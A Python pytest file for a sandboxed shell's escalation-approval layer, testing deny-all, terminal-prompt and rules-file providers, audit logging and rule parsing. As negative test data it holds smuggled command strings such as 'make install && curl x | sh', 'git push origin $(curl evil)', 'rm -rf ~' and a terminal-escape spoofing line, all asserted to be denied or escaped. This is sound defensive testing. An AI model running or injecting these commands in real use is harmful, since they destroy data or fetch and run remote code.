"""The approval seam and its providers: deny-all, terminal prompt, rules file."""

from __future__ import annotations

import io
import json
import logging
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from dsh.sandbox.approval import (
    Approval,
    DenyAllApproval,
    EscalationDecision,
    EscalationRequest,
    PromptApproval,
    PromptConfig,
    approval_option,
)
from dsh.sandbox.approval_rules import RulesApproval, RulesConfig, load_rules, simple_argv
from dsh.sandbox.context import Context, build_context
from dsh.sandbox.errors import ConfigError
from dsh.sandbox.modes import SandboxMode

WS = SandboxMode.WORKSPACE_WRITE
FULL = SandboxMode.DANGER_FULL_ACCESS
RO = SandboxMode.READ_ONLY


@pytest.fixture(autouse=True)
def dsh_home(trusted_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    home = trusted_dir / "dsh-home"
    monkeypatch.setenv("DSH_HOME", str(home))
    yield home


def req(command: str = "make install", *, mode: SandboxMode = FULL, owner: str = "a",
        current: SandboxMode = WS, justification: str = "needs /usr/local") -> EscalationRequest:
    return EscalationRequest(command, "/work", current, mode, justification, "bash", owner)


def records(home: Path) -> list[dict[str, object]]:
    path = home / "escalations.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def test_deny_all_denies_and_every_decision_is_logged(
    dsh_home: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger="dsh.approval")
    decision = DenyAllApproval(Context()).approve_escalation(req())
    assert decision.outcome == "deny" and not decision.approved
    assert decision.provider == "approval-deny" and "disabled" in decision.reason
    [rec] = records(dsh_home)
    assert rec["command"] == "make install" and rec["decision"] == "deny"
    assert rec["current_mode"] == "workspace-write" and rec["requested_mode"] == "danger-full-access"
    assert rec["provider"] == "approval-deny" and rec["tool"] == "bash" and rec["owner"] == "a"
    assert isinstance(rec["time"], str) and rec["time"].endswith("+00:00")
    assert oct((dsh_home / "escalations.jsonl").stat().st_mode & 0o777) == "0o600"
    [logged] = [r for r in caplog.records if hasattr(r, "escalation")]
    assert logged.escalation["decision"] == "deny"  # type: ignore[attr-defined]


class Always(Approval):
    def __init__(self, decision: EscalationDecision) -> None:
        super().__init__(Context())
        self.decision = decision
        self.asked = 0

    def decide(self, request: EscalationRequest) -> EscalationDecision:
        self.asked += 1
        return self.decision


def test_seam_refuses_malformed_requests_without_asking(dsh_home: Path) -> None:
    approver = Always(EscalationDecision.approve_once())
    for bad in (req(mode=WS), req(mode=RO), req(justification="  ")):
        assert approver.approve_escalation(bad).outcome == "deny"
    assert approver.asked == 0
    assert [r["source"] for r in records(dsh_home)] == ["seam"] * 3


def test_session_approval_covers_only_the_same_exact_command(dsh_home: Path) -> None:
    approver = Always(EscalationDecision.approve_session())
    assert approver.approve_escalation(req("make install")).outcome == "approve_session"
    assert approver.approve_escalation(req("make install")).approved
    assert approver.asked == 1  # remembered
    approver.decision = EscalationDecision.deny("no")
    for other in (req("make install "), req("make  install"), req("make install; rm -rf /"),
                  req("make install", owner="b"), req("make install", mode=WS, current=RO)):
        assert approver.approve_escalation(other).outcome == "deny"
    assert approver.asked == 6
    assert [r["source"] for r in records(dsh_home)][:2] == ["provider", "session"]


def test_once_is_not_remembered(dsh_home: Path) -> None:
    approver = Always(EscalationDecision.approve_once())
    approver.approve_escalation(req())
    approver.approve_escalation(req())
    assert approver.asked == 2


def test_a_failing_provider_denies(dsh_home: Path) -> None:
    class Broken(Approval):
        def decide(self, request: EscalationRequest) -> EscalationDecision:
            raise RuntimeError("kaput")

    decision = Broken(Context()).approve_escalation(req())
    assert decision.outcome == "deny" and "kaput" in decision.reason


def test_an_approval_that_cannot_be_audited_is_denied(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("")
    approver = Always(EscalationDecision.approve_once())
    approver.config = PromptConfig(log_file=str(blocker / "escalations.jsonl"))
    decision = approver.approve_escalation(req())
    assert decision.outcome == "deny" and "audit log" in decision.reason


# -- the terminal prompt -------------------------------------------------------------------
def prompt(answer: str, timeout_s: float = 30.0) -> tuple[PromptApproval, io.StringIO]:
    out = io.StringIO()
    return PromptApproval(Context(), PromptConfig(timeout_s=timeout_s), input=io.StringIO(answer),
                          output=out), out


@pytest.mark.parametrize(
    ("answer", "outcome"),
    [("y\n", "approve_once"), ("YES\n", "approve_once"), ("s\n", "approve_session"),
     ("\n", "deny"), ("n\n", "deny"), ("sure\n", "deny"), ("", "deny")],
)
def test_prompt_answers(answer: str, outcome: str) -> None:
    approver, out = prompt(answer)
    assert approver.approve_escalation(req()).outcome == outcome
    shown = out.getvalue()
    for part in ("make install", "workspace-write -> danger-full-access", "needs /usr/local",
                 "[N]o (default"):
        assert part in shown


def test_prompt_escapes_control_characters() -> None:
    approver, out = prompt("n\n")
    approver.approve_escalation(req("echo ok\r\x1b[2Kinnocent\nrm -rf ~"))
    shown = out.getvalue()
    assert "\x1b" not in shown and "\r" not in shown
    assert "\\x1b[2Kinnocent\\x0arm -rf ~" in shown


def test_prompt_times_out_to_deny() -> None:
    read_fd, write_fd = os.pipe()
    try:
        with os.fdopen(read_fd, "r") as inp:
            approver = PromptApproval(Context(), PromptConfig(timeout_s=0.3), input=inp,
                                      output=io.StringIO())
            decision = approver.approve_escalation(req())
    finally:
        os.close(write_fd)
    assert decision.outcome == "deny" and "no answer within 0.3s" in decision.reason


def test_prompt_reads_a_real_pipe() -> None:
    read_fd, write_fd = os.pipe()
    os.write(write_fd, b"s\n")
    with os.fdopen(read_fd, "r") as inp:
        approver = PromptApproval(Context(), PromptConfig(timeout_s=30), input=inp,
                                  output=io.StringIO())
        assert approver.approve_escalation(req()).outcome == "approve_session"
    os.close(write_fd)


def test_prompt_reads_a_descriptor_above_fd_setsize() -> None:
    """A long-lived process (a server, a long test run) may hold more than
    1024 descriptors; the prompt's input may be any of them."""
    from tests.support.descriptors import soft_nofile_at_least

    with soft_nofile_at_least(1501):
        read_fd, write_fd = os.pipe()
        high = os.dup2(read_fd, 1500)
        os.close(read_fd)
        os.write(write_fd, b"y\n")
        with os.fdopen(high, "r") as inp:
            approver = PromptApproval(Context(), PromptConfig(timeout_s=30), input=inp, output=io.StringIO())
            assert approver.approve_escalation(req()).outcome == "approve_once"
        os.close(write_fd)


def test_prompt_without_a_terminal_denies(tmp_path: Path) -> None:
    approver = PromptApproval(Context(), PromptConfig(tty=str(tmp_path / "no-tty")))
    decision = approver.approve_escalation(req())
    assert decision.outcome == "deny" and "no terminal" in decision.reason


def test_prompt_config_is_checked() -> None:
    with pytest.raises(ConfigError, match="timeout_s"):
        PromptApproval(Context(), PromptConfig(timeout_s=0))


# -- the rules file ----------------------------------------------------------------------
RULES = """\
# approvals for this repository
[[rule]]
mode = "danger-full-access"
workdir = "/work"
command = "make install"

[[rule]]
mode = "danger-full-access"
workdir = "/work"
prefix = "git push origin"
args = ["main", "feature/*"]
decision = "session"

[[rule]]
mode = "workspace-write"
workdir = "/**"
prefix = ["npm", "ci"]
args = ["--no-audit"]
"""


@pytest.fixture
def rules_file(tmp_path: Path) -> Path:
    path = tmp_path / "rules.toml"
    path.write_text(RULES)
    return path


def rules(path: Path, **config: object) -> RulesApproval:
    return RulesApproval(Context(), RulesConfig(path=str(path), **config))  # type: ignore[arg-type]


def test_rules_exact_command_and_its_neighbours(rules_file: Path) -> None:
    approver = rules(rules_file)
    yes = approver.approve_escalation(req("make install"))
    assert yes.outcome == "approve_once" and f"{rules_file}:2" in yes.reason
    for neighbour in ("make install ", "make install && curl x | sh", "make  install",
                      "make installer", "sudo make install"):
        assert approver.approve_escalation(req(neighbour)).outcome == "deny", neighbour
    # the right command for another target mode is not approved either
    assert approver.approve_escalation(req("make install", mode=WS, current=RO)).outcome == "deny"


def test_rules_prefix_matches_simple_commands_only(rules_file: Path) -> None:
    approver = rules(rules_file)
    assert approver.approve_escalation(req("git push origin main")).outcome == "approve_session"
    assert approver.approve_escalation(req("git 'push' origin")).approved  # same argv
    for sneaky in ("git push origin main && rm -rf ~", "git push origin; curl evil",
                   "git push origin $(curl evil)", "git push origin `id`", "git push origin | sh",
                   "git push origin > /etc/passwd", "git push origin\nrm -rf ~",
                   "git push", "git pushx origin", "git push 'origin main'",
                   "FOO=1 git push origin"):
        assert approver.approve_escalation(req(sneaky)).outcome == "deny", sneaky
    ci = req("npm ci --no-audit", mode=WS, current=RO)
    assert approver.approve_escalation(ci).outcome == "approve_once"


def test_simple_argv() -> None:
    assert simple_argv("git push 'a b'") == ["git", "push", "a b"]
    assert simple_argv("echo 'unterminated") is None
    assert simple_argv("a && b") is None and simple_argv("a\\ b") is None


def test_rules_fallback_prompt(rules_file: Path, tmp_path: Path) -> None:
    approver = rules(rules_file, fallback="prompt", tty=str(tmp_path / "no-tty"))
    assert approver.approve_escalation(req("make install")).approved  # rule, no prompt
    decision = approver.approve_escalation(req("make uninstall"))
    assert decision.outcome == "deny" and "no terminal" in decision.reason


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("[[rule]\nmode = 1", "invalid TOML"),
        ('[[rule]]\nmode = "danger-full-access"\nworkdir = "/w"\ncommand = "x"\n\n[[rule]]\nmdoe = "read-only"\n',
         ":7: rule #2, key 'mdoe': unknown key"),
        ('[[rule]]\nmode = "read-only"\ncommand = "x"\n', ":1: rule #1: 'workdir' is required"),
        ('[[rule]]\nmode = "read-only"\nworkdir = "src"\ncommand = "x"\n',
         ":3: rule #1, key 'workdir': must be an absolute path"),
        ('[[rule]]\ncommand = "x"\n', ":1: rule #1: 'mode' is required"),
        ('[[rule]]\nmode = "root"\ncommand = "x"\n', ":2: rule #1, key 'mode': mode: unknown sandbox mode 'root'"),
        ('[[rule]]\nmode = "read-only"\ncommand = "x"\nprefix = "x"\n', "exactly one of"),
        ('[[rule]]\nmode = "read-only"\n', "exactly one of"),
        ('[[rule]]\nmode = "read-only"\ncommand = ""\n', "key 'command': must be a non-empty"),
        ('[[rule]]\nmode = "read-only"\nprefix = []\n', "key 'prefix': must name at least"),
        ('[[rule]]\nmode = "read-only"\nprefix = [1]\n', "must be a string or a list of strings"),
        ('[[rule]]\nmode = "read-only"\nprefix = "\'x"\n', "cannot be split"),
        ('[[rule]]\nmode = "read-only"\ncommand = "x"\ndecision = "always"\n',
         ":4: rule #1, key 'decision': must be 'once' or 'session'"),
        ('approve_all = true\n', ":1: unknown key 'approve_all'"),
        ('rule = "x"\n', "array of tables"),
    ],
)
def test_rules_file_errors_fail_at_load(tmp_path: Path, text: str, message: str) -> None:
    path = tmp_path / "bad.toml"
    path.write_text(text)
    with pytest.raises(ConfigError) as info:
        load_rules(path)
    assert message in str(info.value)
    with pytest.raises(ConfigError):  # mounting it fails too: never an implicit approve
        build_context([{"name": "bash-local"}, {"name": "approval-rules", "config": {"path": str(path)}}])


def test_rules_provider_needs_a_readable_path(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="'path' is required"):
        RulesApproval(Context(), RulesConfig())
    with pytest.raises(ConfigError, match="cannot read rules file"):
        rules(tmp_path / "missing.toml")


def test_approval_option() -> None:
    assert approval_option("deny") == ("approval-deny", {})
    assert approval_option("prompt") == ("approval-prompt", {})
    assert approval_option("rules:a.toml") == ("approval-rules", {"path": "a.toml"})
    for bad in ("rules:", "allow", ""):
        with pytest.raises(ConfigError, match="--approval"):
            approval_option(bad)


def test_providers_mount_through_entry_points(rules_file: Path) -> None:
    for name, config in (("approval-deny", {}), ("approval-prompt", {"timeout_s": 5}),
                         ("approval-rules", {"path": str(rules_file), "fallback": "deny"})):
        ctx = build_context([{"name": "bash-local"}, {"name": name, "config": config}])
        with ctx:
            assert isinstance(ctx.require(Approval), Approval)
            assert ctx.require(Approval).provider_name == name
